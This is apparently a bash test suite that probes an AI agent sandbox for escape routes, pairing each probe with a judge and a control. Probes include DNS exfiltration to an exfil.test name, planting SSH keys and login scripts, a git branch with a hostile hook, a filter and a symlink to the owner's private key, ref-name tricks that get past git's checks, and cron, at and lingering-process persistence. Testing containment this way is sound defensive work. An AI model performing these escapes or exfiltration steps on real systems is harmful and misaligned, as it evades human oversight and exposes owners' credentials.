c_x-blocked() { curl -s --max-time 3 --noproxy '*' http://blocked.test/ | has WEB; }
connect22() { /usr/bin/python3 -c 'import socket,sys
s=socket.create_connection(sys.argv[1].rsplit(":", 1), timeout=5)
s.sendall(b"CONNECT other.test:22 HTTP/1.1\r\nHost: other.test:22\r\n\r\n")
d=b""
while b"\r\n\r\n" not in d:
    c=s.recv(4096)
    if not c: break
    d+=c
print(d.split(b"\r\n")[0].decode())' "$C_PROXY"; }
p_x-connect-22() {
	local st
	st=$(timeout 8 bash -c "$(declare -f connect22); C_PROXY=$C_PROXY connect22" 2>&1 | head -n 1)
	case $st in
	'HTTP/1.'[01]' 200'*) return 0 ;;
	'HTTP/1.'[01]' '[0-9][0-9][0-9]*) st=${st#HTTP/1.? }; blocked "HTTP-${st%% *}" "CONNECT refused: $st" ;;
	*) echo "no HTTP status line from the proxy: $st"; return 1 ;;
	esac
}
c_x-connect-22() { pyx tcp 198.18.1.12 22 SSH >/dev/null; }
# squid answers manager requests for its own name and port; every rendering must refuse them.
p_x-mgr() {
	curl -s --max-time 5 -x "http://$C_PROXY" "http://127.0.0.1:${C_PROXY##*:}/squid-internal-mgr/info" 2>/dev/null |
		has 'Squid Object Cache' && return 0
	viaproxy "http://127.0.0.1:${C_PROXY##*:}/squid-internal-mgr/info"
}
c_x-mgr() { [ "$(curl -s -o /dev/null -w '%{http_code}' --max-time 5 -x "http://$C_PROXY" http://allowed.test/)" = 200 ]; }
# The name carries the marker and the place; the world's DNS logger saw it or not.
p_x-dns-exfil() { curl -s -o /dev/null --max-time 8 -x "http://$C_PROXY" "http://x$C_MARK-$C_PLACE.exfil.test/"; return 78; }
j_x-dns-exfil() {
	[ -f "$C_DNS_LOG" ] || { echo "no DNS log at $C_DNS_LOG"; return 1; }
	grep -q "x$C_MARK-$1.exfil.test" "$C_DNS_LOG" && return 0
	blocked not-resolved "the name server never saw x$C_MARK-$1.exfil.test"
}
c_x-dns-exfil() { getent ahostsv4 "xctl$C_MARK.exfil.test" >/dev/null 2>&1; grep -q "xctl$C_MARK.exfil.test" "$C_DNS_LOG"; }

# ---- ssh (judged at the next login of the agent, made by the world as the owner)
# Writing the file must work (it is the agent's own home): otherwise nothing was tested.
next_login() { [ -s "$C_SCRATCH/next-login-env" ] || { echo "no next login captured ($C_SCRATCH/next-login-env)"; return 1; }; }
p_s-rc() { mkdir -p ~/.ssh && printf 'touch %s\n' "$C_SCRATCH/ssh-rc-ran-$C_PLACE" >~/.ssh/rc && return 78; }
j_s-rc() { next_login || return; [ -e "$C_SCRATCH/ssh-rc-ran-$1" ] && return 0; blocked rc-not-run "the next login did not run ~/.ssh/rc"; }
# Control: the owner's own ~/.ssh/rc does run at her login (sshd's default for her).
c_s-rc() {
	as_owner bash -c 'rm -f ~/rc-ran; echo "touch ~/rc-ran" >~/.ssh/rc' &&
		as_owner timeout "$C_SSH_TIMEOUT" ssh -i "$C_OWNER_KEY" -o IdentitiesOnly=yes -o BatchMode=yes \
			-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR \
			"$C_OWNER@localhost" true </dev/null
	local r=1
	[ -e "$C_OWNER_HOME/rc-ran" ] && r=0
	rm -f "$C_OWNER_HOME/rc-ran" "$C_OWNER_HOME/.ssh/rc"
	return $r
}
p_s-environment() { mkdir -p ~/.ssh && echo "ESCAPE_ENV_$C_PLACE=1" >~/.ssh/environment && return 78; }
j_s-environment() {
	next_login || return
	grep -q "ESCAPE_ENV_$1=1" "$C_SCRATCH/next-login-env" && return 0
	blocked env-not-set "ESCAPE_ENV_$1 absent from the next login's environment"
}
# Control: the judge's evidence exists (the environment of that next login was captured).
c_s-environment() { grep -q '^PATH=' "$C_SCRATCH/next-login-env"; }
p_s-authkeys() {
	mkdir -p ~/.ssh || return
	rm -f ~/.ssh/planted-"$C_PLACE" ~/.ssh/planted-"$C_PLACE".pub
	ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/planted-"$C_PLACE" >/dev/null 2>&1 || { echo "ssh-keygen failed"; return 1; }
	local out
	out=$(/usr/bin/python3 -c 'import sys; open(sys.argv[1], "a").write(open(sys.argv[2]).read())' \
		~/.ssh/authorized_keys ~/.ssh/planted-"$C_PLACE".pub 2>&1) && return 78
	echo "cannot append to ~/.ssh/authorized_keys: $out" | tail -n 1
	return 1
}
j_s-authkeys() {
	local out
	cp "$C_AGENT_HOME/.ssh/planted-$1" "$C_SCRATCH/planted-$1" && chmod 600 "$C_SCRATCH/planted-$1" || return
	out=$(timeout "$C_SSH_TIMEOUT" ssh -i "$C_SCRATCH/planted-$1" -o IdentitiesOnly=yes -o BatchMode=yes \
		-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR \
		"$C_AGENT@localhost" true </dev/null 2>&1) && return 0
	case $out in *'Permission denied (publickey'*) blocked publickey-denied "sshd refused the planted key" ;;
	*) printf '%s\n' "$out" | tail -n 2; return 1 ;; esac
}
c_s-authkeys() { as_owner timeout "$C_SSH_TIMEOUT" ssh -i "$C_OWNER_KEY" -o IdentitiesOnly=yes -o BatchMode=yes \
	-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR "$C_AGENT@localhost" true </dev/null; }
# The world opens the ssh place with -A and the owner's ssh-agent in SSH_AUTH_SOCK.
p_s-agent-fwd() {
	local out rc
	[ -n "${SSH_AUTH_SOCK:-}" ] || { blocked no-agent-socket "SSH_AUTH_SOCK is not set"; return; }
	out=$(timeout 5 ssh-add -l 2>&1)
	rc=$?
	[ $rc -le 1 ] && ! grep -q 'Could not open\|Error connecting' <<<"$out" && return 0
	case $out in *'Could not open a connection'*) blocked agent-unreachable "$out" ;;
	*'Error connecting to agent: '*) blocked "$(errno_of "${out##*: }")" "$out" ;;
	*) printf '%s\n' "$out" | tail -n 1; return 1 ;; esac
}
c_s-agent-fwd() { [ -S "$C_OWNER_AGENT_SOCK" ] && as_owner env SSH_AUTH_SOCK="$C_OWNER_AGENT_SOCK" ssh-add -l >/dev/null; }

# ---- git exchange (judged after the owner's `ocsb sync pull`)
p_g-hostile() {
	local d="$C_AGENT_CLONE" b="escape-$C_PLACE" out
	[ -d "$d/.git" ] || { echo "no agent clone at $d"; return 77; }
	# A file of this place's own: the branch has a commit even when an earlier place's
	# branch (same hostile files) is where HEAD stayed (a clone without commits has no
	# branch to go back to).
	out=$( (
		cd "$d" && orig=$(git symbolic-ref -q --short HEAD || git rev-parse HEAD) &&
			git checkout -q -B "$b" &&
			printf '* filter=evil\n' >.gitattributes &&
			mkdir -p .githooks && printf '#!/bin/sh\ntouch /tmp/pwned\n' >.githooks/post-checkout &&
			chmod +x .githooks/post-checkout && ln -sfn "$C_OWNER_HOME/.ssh/id_ed25519" leak &&
			printf '[submodule "x"]\n\tpath = x\n\turl = ../../etc\n' >.gitmodules &&
			echo "$C_PLACE" >"escape-$C_PLACE.txt" &&
			git add -A && git -c user.name=agent -c user.email=a@b commit -q -m "escape $C_PLACE" &&
			{ git checkout -q "$orig" 2>/dev/null || true; }
	) 2>&1) || { echo "could not commit the hostile branch: $(tail -n 1 <<<"$out")"; return 1; }
	return 78
}
j_g-hostile() {
	[ -s "$C_SCRATCH/owner-repo-before" ] && [ -s "$C_SCRATCH/owner-repo-after" ] || { echo "no pull evidence"; return 1; }
	if ! cmp -s "$C_SCRATCH/owner-repo-before" "$C_SCRATCH/owner-repo-after"; then
		echo "changed by the pull: $(diff "$C_SCRATCH/owner-repo-before" "$C_SCRATCH/owner-repo-after" | grep '^[<>]' | head -n 3 | tr '\n' ' ')"
		return 0
	fi
	blocked repo-unchanged "the owner's HEAD, refs, work tree, config and hooks are as before the pull"
}
c_g-hostile() { [ -d "$C_PROJECT/.git" ] && as_owner git -C "$C_PROJECT" status --porcelain >/dev/null; }
p_g-refname() {
	local d="$C_AGENT_CLONE"
	[ -d "$d/.git" ] || { echo "no agent clone at $d"; return 77; }
	# git refuses most of these names itself; write the ref file directly to get past it.
	mkdir -p "$d/.git/refs/heads/..%2f" 2>/dev/null
	git -C "$d" rev-parse HEAD >"$d/.git/refs/heads/-escape-$C_PLACE" || return
	return 78
}
j_g-refname() {
	as_owner git -C "$C_PROJECT" for-each-ref --format='%(refname)' | grep -v "^refs/remotes/$C_AGENT/" |
		grep -q "escape-$1" && return 0
	blocked ref-confined "no escape-$1 ref outside refs/remotes/$C_AGENT/"
}
c_g-refname() { as_owner git -C "$C_PROJECT" for-each-ref --format='%(refname)' | grep -q "^refs/remotes/$C_AGENT/escape-"; }

# ---- mirror, secrets: features of other branches
p_m-symlink() {
	[ -d /var/lib/ocsb/mirror ] || { echo "no config mirror on this build (/var/lib/ocsb/mirror absent)"; return 77; }
	local t
	t=$(find ~ -maxdepth 3 -type l -lname '/var/lib/ocsb/mirror/*' 2>/dev/null | head -1)
	[ -n "$t" ] || { echo "the agent's home has no link into the mirror"; return 77; }
	# Swap a mirrored link for one to the owner's secret; root must not copy through it.
	ln -sfn "$C_OWNER_HOME/secret.txt" "$t" || return
	return 78
}
j_m-symlink() { grep -rqs "$C_MARK" /var/lib/ocsb/mirror && return 0; blocked not-copied "no canary under /var/lib/ocsb/mirror"; }
c_m-symlink() { [ -d /var/lib/ocsb/mirror ] || return 0; ls /var/lib/ocsb/mirror >/dev/null; }
# The test's own secret (value containing C_SECRET_MARK) was pushed when C_SECRET_PUSHED=1
# (t-95 does; run-here.sh leaves the owner's secret store alone).
p_k-secrets-home() {
	[ -e "/run/ocsb/$C_AGENT/env" ] || { echo "no secrets hand-over on this build (/run/ocsb/$C_AGENT/env absent)"; return 77; }
	[ -n "${C_SECRET_PUSHED:-}" ] || { echo "no test secret pushed in this world"; return 77; }
	grep -rqs "$C_SECRET_MARK" ~ && return 0
	blocked not-in-home "no secret value anywhere under ~"
}
c_k-secrets-home() { [ ! -e "/run/ocsb/$C_AGENT/env" ] || [ -z "${C_SECRET_PUSHED:-}" ] || grep -q "$C_SECRET_MARK" "/run/ocsb/$C_AGENT/env"; }

# ---- persistence
p_r-cron() {
	local out
	out=$(echo '* * * * * true' | timeout 5 crontab - 2>&1) && timeout 5 crontab -l 2>/dev/null | has true && return 0
	case $out in *'not allowed to use this program'*) blocked cron-denied "$(head -n 1 <<<"$out")" ;;
	*) printf 'crontab: %s\n' "$out" | head -n 2; return 1 ;; esac
}
c_r-cron() { as_owner bash -c "echo '* * * * * true' | crontab - && crontab -l | grep -q true && crontab -r"; }
p_r-at() {
	local out
	out=$(echo true | timeout 5 at now + 1 hour 2>&1) && return 0
	case $out in *'You do not have permission to use at'*) blocked at-denied "$(head -n 1 <<<"$out")" ;;
	*) printf 'at: %s\n' "$out" | head -n 2; return 1 ;; esac
}
c_r-at() { as_owner bash -c 'echo true | at now + 1 hour' >/dev/null 2>&1 && for j in $(as_owner atq | cut -f1); do as_owner atrm "$j"; done; }
p_r-linger() { setsid bash -c "exec -a escape-linger-$C_PLACE sleep 3600" </dev/null >/dev/null 2>&1 & return 78; }
j_r-linger() { pgrep -f "escape-linger-$1" >/dev/null && return 0; blocked killed "no escape-linger-$1 process left"; }
c_r-linger() { as_agent setsid sleep 1 </dev/null >/dev/null 2>&1; }

# ---- resource exhaustion: read the limits, never exhaust anything
p_e-nproc() {
	local l
	l=$(ulimit -Hu) || return
	[ "$l" = unlimited ] || [ "$l" -gt 65536 ] && return 0
	blocked limited "hard RLIMIT_NPROC $l"
}
c_e-nproc() { ulimit -Hu | grep -Eq '^(unlimited|[0-9]+)$'; }
p_e-core() {
	local l
	l=$(ulimit -Hc) || return
	[ "$l" != 0 ] && return 0
	blocked limited "hard RLIMIT_CORE 0"
}
c_e-core() { ulimit -Hc | grep -Eq '^(unlimited|[0-9]+)$'; }
p_e-cgroup() {
	# Open (0) when this process has no memory or no task limit in its cgroup.
	local mem pids v2 m p
	mem=$(awk -F: '$2 ~ /(^|,)memory(,|$)/ { print $3 }' /proc/self/cgroup)
	pids=$(awk -F: '$2 ~ /(^|,)pids(,|$)/ { print $3 }' /proc/self/cgroup)
	if [ -n "$mem" ] && [ -n "$pids" ]; then
		case $mem in */ocsb-*) ;; *) echo "cgroup v1 memory:$mem pids:$pids (not agentd's)"; return 0 ;; esac
		m=$(cat "/sys/fs/cgroup/memory$mem/memory.limit_in_bytes") && p=$(cat "/sys/fs/cgroup/pids$pids/pids.max") || return
		[ "$m" -ge 9223372036854771712 ] || [ "$p" = max ] && { echo "cgroup v1 $mem: memory $m, pids $p"; return 0; }
		blocked limited "cgroup v1 $mem: memory $m, pids $p"
		return
	fi
	v2=$(sed -n 's/^0:://p' /proc/self/cgroup)
	case $v2 in */ocsb-*) ;; *) echo "cgroup v2 ${v2:-?} (not agentd's)"; return 0 ;; esac
	m=$(cat "/sys/fs/cgroup$v2/memory.max") && p=$(cat "/sys/fs/cgroup$v2/pids.max") || return
	[ "$m" = max ] || [ "$p" = max ] && { echo "cgroup v2 $v2: memory.max $m, pids.max $p"; return 0; }
	blocked limited "cgroup v2 $v2: memory.max $m, pids.max $p"
}
c_e-cgroup() { test -r /proc/self/cgroup; }
